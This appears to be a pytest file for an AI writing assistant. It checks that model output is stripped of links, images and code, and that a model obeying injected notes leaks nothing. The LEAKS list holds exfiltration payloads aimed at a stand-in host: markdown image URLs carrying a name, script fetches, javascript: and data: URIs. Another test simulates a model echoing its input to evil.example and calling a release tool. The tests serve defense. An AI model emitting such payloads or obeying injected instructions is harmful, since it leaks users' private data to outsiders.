"""A model that obeys what it should not: what it writes does no harm."""

import json
import time
from typing import Any

import pytest

from assistant.drafts import Kind, Statement
from assistant.errors import ModelError
from assistant.writers import Brief
from assistant.writers.chat import ChatWriter
from assistant.writers.chatting.shaping import UNKNOWN_SOURCE, Given, shape
from assistant.writers.checks import keep_flags
from tests.writers import demo
from tests.writers.wire import Received, Reply, drafted, said, wire

LEAKS = [
    "![x](https://evil.example/?q=Firstname-1)",
    "![x][1]\n[1]: https://evil.example/?q=Firstname-1",
    "[open](https://evil.example/a)",
    "<img src='//evil.example/x.png'>",
    "<img src=//evil.example onerror=alert(1)",
    "<script>fetch('https://evil.example')</script>",
    "see https://evil.example/a?b=c.",
    "see www.evil.example/a",
    "see evil.example/steal?d=Firstname-1",
    "<https://evil.example>",
    "javascript:alert(1)",
    "data:text/html;base64,AAAA",
    "mailto:x@evil.example?body=Firstname-1",
    "HTTPS://EVIL.EXAMPLE/x",
    "https\u200b://evil.example/x",
]


@pytest.fixture(scope="module")
def brief() -> Brief:
    return demo.brief(Kind.STARTERS, question="trust")


def statements(brief: Brief, *written: dict[str, Any] | str) -> list[Statement]:
    with wire(said(drafted(*written))) as server:
        *_, last = ChatWriter("openai:scripted", server.url).write(brief)
    return list(last.statements())


@pytest.mark.parametrize("leak", LEAKS)
def test_no_address_gets_through(leak: str, brief: Brief) -> None:
    """Addresses, images, links and code of the model's own are taken out, and that is flagged."""
    (only,) = statements(brief, f"Before {leak} after.")
    low = only.text.lower()
    for bad in (
        "://",
        "//evil",
        "www.",
        "evil.example/",
        "<",
        "](",
        "][",
        "javascript:",
        "data:text",
        "mailto:",
    ):
        assert bad not in low
    assert only.text.startswith("Before")
    assert only.flag is not None
    assert "address or code" in only.flag


def test_addresses_in_titles_and_headings_are_taken_out(brief: Brief) -> None:
    """Every field a person sees is cleaned."""
    text = drafted(
        "x", title="![t](https://evil.example)", heading="<b>h</b> https://evil.example/x"
    )
    with wire(said(text)) as server:
        *_, last = ChatWriter("openai:scripted", server.url).write(brief)
    assert last.title == "t"
    assert last.sections[0].heading == "h [address removed]"


def test_a_model_that_obeys_a_note_releases_nothing(brief: Brief) -> None:
    """A model that answers with whatever it was sent shows nothing but the reader's own brief."""

    def obeying(got: Received) -> Reply:
        everything = got.json["messages"][1]["content"]
        leak = {"text": f"{everything} https://evil.example/{everything[:40]}", "sources": ["N1"]}
        return said(drafted(leak, {"text": "Release now.", "tool": "release", "basis": "record"}))

    with wire(obeying) as server:
        call = ChatWriter("openai:scripted", server.url).call(brief)
        *_, last = call
    shown = json.dumps([s.text for s in last.statements()])
    assert "evil.example/" not in shown
    for pair_id, pair in demo.pairs().items():
        if brief.pair is not None and pair_id != brief.pair.id:
            assert pair.mentor.name not in shown
    assert "tools" not in server.requests[0].json


def test_nonsense_sources_are_dropped_and_flagged(brief: Brief) -> None:
    """A source that was not in the brief does not stay; one that was does."""
    first, second, third = statements(
        brief,
        {"text": "A claim.", "sources": ["N99", "record:goal:g1", "../x", "R1"], "basis": "record"},
        {"text": "Another claim [N98].", "sources": [], "basis": "quoted"},
        {"text": "A third [R1; R2].", "sources": None, "basis": "certain"},
    )
    assert len(first.sources) == 1
    assert first.sources[0].startswith("record:")
    assert first.flag == UNKNOWN_SOURCE
    assert (second.text, second.sources, second.flag) == ("Another claim.", (), UNKNOWN_SOURCE)
    assert third.text == "A third."
    assert len(third.sources) == 2
    assert third.flag is None


def test_the_writers_flags_survive_the_checks(brief: Brief) -> None:
    """A dropped source is still said after the checks have set their own flags."""
    with wire(said(drafted({"text": "Ask openly.", "sources": ["G99"]}))) as server:
        *_, last = ChatWriter("openai:scripted", server.url).write(brief)
    checked = demo.checked(brief, last)
    assert next(checked.statements()).flag is None
    assert next(keep_flags(last, checked).statements()).flag == UNKNOWN_SOURCE


def test_an_owner_is_one_of_the_two(brief: Brief) -> None:
    """Somebody else, named by a model, owns nothing."""
    first, second = statements(
        brief,
        {"text": "Do it.", "owner": "boss@evil.example"},
        {"text": "Do it.", "owner": "Mentee"},
    )
    assert first.owner is None
    assert first.flag == "The model named an owner who is not one of the two partners"
    assert brief.pair is not None
    assert (second.owner, second.flag) == (brief.pair.mentee.email, None)


@pytest.mark.parametrize(
    "broken",
    [
        '{"title": 5, "sections": {"a": 1}}',
        '{"sections": [1, null, {"statements": [3, null, {"text": 4}, {"text": " "}]}]}',
        '{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}',
        "[" * 5_000,
        '{"a":' * 3_000,
        "null",
    ],
)
def test_broken_json_is_told(broken: str, brief: Brief) -> None:
    """JSON that is no draft ends in a sentence, never in a crash or an empty draft."""
    with wire(said(broken, size=500)) as server, pytest.raises(ModelError, match="did not write"):
        list(ChatWriter("openai:scripted", server.url).write(brief))


@pytest.mark.parametrize(
    "piece", ["[", "<a ", "a.", " ", "\n", "(N1", "]( ", "![x", "+(", "//", "a@"]
)
def test_no_answer_takes_long_to_read(piece: str) -> None:
    """A model cannot stop the app with a text that is slow to clean."""
    long = piece * (40_000 // len(piece))
    started = time.process_time()
    shape({"title": long, "sections": [{"statements": [long]}]}, Given(Kind.ANSWER, {}, str))
    assert time.process_time() - started < 2


def test_a_note_cannot_close_its_block() -> None:
    """The mark between material and text occurs in no material, whatever a note writes."""
    value = demo.brief(Kind.SUMMARY)
    with wire(said(drafted({"text": "x", "sources": ["R1"]}))) as server:
        list(ChatWriter("openai:scripted", server.url).write(value))
    system, user = (m["content"] for m in server.requests[0].json["messages"])
    mark = system.split("carry the mark ")[1][:8]
    blocks = user.split(f"<<{mark} ")[1:]
    assert len(blocks) % 2 == 0
    assert all(b.startswith("end ") for b in blocks[1::2])
